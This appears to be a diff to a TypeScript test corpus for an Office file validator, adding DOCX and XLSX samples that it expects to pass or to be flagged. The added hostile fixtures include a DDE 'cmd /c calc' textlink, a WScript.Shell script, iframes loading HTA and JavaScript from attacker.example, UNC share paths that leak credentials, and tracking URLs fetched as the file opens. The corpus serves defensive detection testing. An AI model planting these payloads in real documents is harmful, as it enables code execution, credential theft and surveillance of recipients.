@@ -4,6 +4,12 @@ import type { FileType } from '../../../shared/schemas/common.ts';
 import type { FindingCode } from '../../../shared/validation/inspect.ts';
 import {
   activeX,
+  PAGE_BACKGROUND,
+  svgPicture,
+  onlineVideo,
+  YOUTUBE_EMBED,
+  drawingShape,
+  sheetLoading,
   activeXByContentType,
   altChunk,
   contentTypes,
@@ -1194,6 +1200,10 @@ const officeItems: CorpusItem[] = [
   ...linkedPictureOfficeItems(),
   ...followedTargetOfficeItems(),
   ...fetchedRelationshipOfficeItems(),
+  ...sheetLoadingOfficeItems(),
+  ...drawingShapeOfficeItems(),
+  ...onlineVideoOfficeItems(),
+  ...svgPictureOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -3076,6 +3086,67 @@ export const ACTIVE_GENUINE: readonly {
         ['https://www.miit.gov.cn/', 'ID:AB', ['编号', ':A12'], 'Re:Q3', 'Name:张三', 'Ref:ABC-123', 'Note:'],
       ),
   },
+  {
+    id: 'docx-page-background-beside-hyperlink',
+    declared: 'docx',
+    // A page background picture (a VML fill of an embedded image) beside a web link (round 10).
+    bytes: () =>
+      documentLinking(
+        `${PAGE_BACKGROUND}<w:p><w:hyperlink r:id="rId8"><w:r><w:t>工信部</w:t></w:r></w:hyperlink></w:p>`,
+        [rel('rId9', 'image', 'media/image1.png'), rel('rId8', 'hyperlink', 'https://www.miit.gov.cn/', true)],
+      ),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'xlsx-sheet-background-drawing-beside-hyperlink',
+    declared: 'xlsx',
+    // A sheet with a linked cell, its drawing, comments' VML and background picture (round 10).
+    bytes: () =>
+      sheetLoading(
+        '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks><drawing r:id="rId2"/><legacyDrawing r:id="rId3"/><picture r:id="rId4"/>',
+        [
+          rel('rId1', 'hyperlink', 'https://www.miit.gov.cn/', true),
+          rel('rId2', 'drawing', '../drawings/drawing1.xml'),
+          rel('rId3', 'vmlDrawing', '../drawings/vmlDrawing1.vml'),
+          rel('rId4', 'image', '../media/image1.png'),
+        ],
+      ),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'xlsx-shape-with-macro-in-workbook',
+    declared: 'xlsx',
+    // A shape as Excel writes it, its text linked to a cell and a macro of the workbook's own
+    // named (none runs: a workbook with VBA is refused by its type) (round 10).
+    bytes: () => drawingShape('macro="[0]!显示明细" textlink="$A$1"'),
+  },
+  {
+    id: 'xlsx-shape-as-excel-writes-it',
+    declared: 'xlsx',
+    bytes: () => drawingShape('macro="" textlink=""'),
+  },
+  {
+    id: 'docx-online-video-youtube',
+    declared: 'docx',
+    // An online video inserted from YouTube: its iframe's address is a clicked link's warning (round 10).
+    bytes: () => onlineVideo(YOUTUBE_EMBED),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'docx-svg-picture-beside-hyperlink',
+    declared: 'docx',
+    // An SVG picture (its PNG copy and the SVG both in the package) beside a web link (round 10).
+    bytes: () =>
+      documentLinking(
+        `<w:p>${inlinePicture(svgPicture('r:embed="rId7"'))}</w:p><w:p><w:hyperlink r:id="rId9"><w:r><w:t>工信部</w:t></w:r></w:hyperlink></w:p>`,
+        [
+          rel('rId7', 'image', 'media/image2.svg'),
+          rel('rId8', 'image', 'media/image1.png'),
+          rel('rId9', 'hyperlink', 'https://www.miit.gov.cn/', true),
+        ],
+      ),
+    warning: 'EXTERNAL_LINK',
+  },
 ];
 
 /**
@@ -3514,6 +3585,119 @@ function fetchedRelationshipOfficeItems(): CorpusItem[] {
       'xlsx-picture-fetches-hyperlink-relationship',
       EXTERNAL,
       () => workbookPicture('r:embed="rId1"', [rel('rId1', 'hyperlink', TRACK, true)]),
+      'OOXML_EXTERNAL',
+    ),
+  ];
+}
+
+/**
+ * External relationships typed as hyperlinks to a web address that a Word page background or a
+ * sheet's own elements load as the file opens (round 10): a VML fill's picture, a sheet's
+ * background picture, OLE object, drawing and comments' VML drawing. Each was VALID with a warning.
+ */
+function sheetLoadingOfficeItems(): CorpusItem[] {
+  const EXTERNAL = 'OOXML external';
+  const TRACK = 'http://attacker.example/track';
+  const tracking = [rel('rId1', 'hyperlink', TRACK, true)];
+  return [
+    item(
+      'docx-page-background-fetches-hyperlink-relationship',
+      EXTERNAL,
+      () => documentFetching(`${PAGE_BACKGROUND}<w:p/>`, TRACK),
+      'OOXML_EXTERNAL',
+    ),
+    ...Object.entries({
+      background: '<picture r:id="rId1"/>',
+      'ole-object': '<oleObjects><oleObject progId="Excel.Sheet.12" shapeId="1025" r:id="rId1"/></oleObjects>',
+      drawing: '<drawing r:id="rId1"/>',
+      'comments-drawing': '<legacyDrawing r:id="rId1"/>',
+      'header-drawing': '<legacyDrawingHF r:id="rId1"/>',
+    }).map(([what, inner]) =>
+      item(
+        `xlsx-sheet-${what}-fetches-hyperlink-relationship`,
+        EXTERNAL,
+        () => sheetLoading(inner, tracking),
+        'OOXML_EXTERNAL',
+      ),
+    ),
+  ];
+}
+
+/**
+ * A drawing's shape whose `macro` (run on a click) or `textlink` (read as the sheet opens) names
+ * a workbook by its path or a DDE server (round 10): Excel opens that workbook, handing a share's
+ * host the reviewer's credentials, or starts the program. Each was VALID.
+ */
+function drawingShapeOfficeItems(): CorpusItem[] {
+  return [
+    item(
+      'xlsx-shape-macro-in-workbook-on-share',
+      'OOXML external',
+      () => drawingShape(`macro="'\\\\attacker.example\\share\\[宏.xlsm]Sheet1'!Auto" textlink=""`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-shape-macro-in-workbook-on-web',
+      'OOXML external',
+      () => drawingShape(`macro="'https://attacker.example/[宏.xlsm]Sheet1'!Auto"`),
+      'OOXML_EXTERNAL',
+    ),
+    item('xlsx-shape-textlink-dde', 'DDE', () => drawingShape(`macro="" textlink="cmd|' /c calc'!A0"`), 'OOXML_DDE'),
+    item(
+      'xlsx-shape-textlink-on-share',
+      'OOXML external',
+      () => drawingShape(`textlink="'\\\\attacker.example\\share\\[b.xlsx]Sheet1'!$A$1"`),
+      'OOXML_EXTERNAL',
+    ),
+  ];
+}
+
+/**
+ * Word's online video whose HTML, rendered by Internet Explorer's engine as the video is clicked,
+ * is not a video site's iframe (round 10): a script, a `javascript:` or a share's frame. Each was
+ * VALID without a warning.
+ */
+function onlineVideoOfficeItems(): CorpusItem[] {
+  return Object.entries({
+    script: '<script>new ActiveXObject("WScript.Shell").Run("calc")</script>',
+    'javascript-frame': '<iframe SRC="javascript:location=\'https://attacker.example/x.hta\'"></iframe>',
+    'share-frame': '<iframe src="\\\\attacker.example\\share\\v.html"></iframe>',
+    'frame-with-handler': '<iframe src="https://www.youtube.com/embed/x" onload="document.write(1)"></iframe>',
+    'frame-then-script': `${YOUTUBE_EMBED}<script src="https://attacker.example/x.js"></script>`,
+  }).map(([what, html]) =>
+    item(`docx-online-video-${what}`, 'OOXML external', () => onlineVideo(html), 'OOXML_EXTERNAL'),
+  );
+}
+
+/**
+ * An SVG picture (`<asvg:svgBlip>`, drawn by Office 2016 and later instead of its blip's PNG
+ * copy) that loads an external relationship typed as a hyperlink to a web address, by `r:embed`
+ * or `r:link` (round 10): a tracking address fetched as the file opens. Each was VALID with a
+ * warning.
+ */
+function svgPictureOfficeItems(): CorpusItem[] {
+  const TRACK = 'http://attacker.example/track';
+  return [
+    item(
+      'docx-svg-picture-fetches-hyperlink-relationship',
+      'OOXML external',
+      () => documentFetching(`<w:p>${inlinePicture(svgPicture('r:embed="rId9"'))}</w:p>`, TRACK),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-svg-picture-linked',
+      'OOXML external',
+      () => documentFetching(`<w:p>${inlinePicture(svgPicture('r:link="rId9"'))}</w:p>`, TRACK),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-svg-picture-fetches-hyperlink-relationship',
+      'OOXML external',
+      () =>
+        workbookPicture(svgPicture('r:embed="rId2"').replace(/rId8/g, 'rId1'), [
+          rel('rId1', 'image', '../media/image1.png'),
+          rel('rId2', 'hyperlink', TRACK, true),
+        ]),
       'OOXML_EXTERNAL',
     ),
   ];
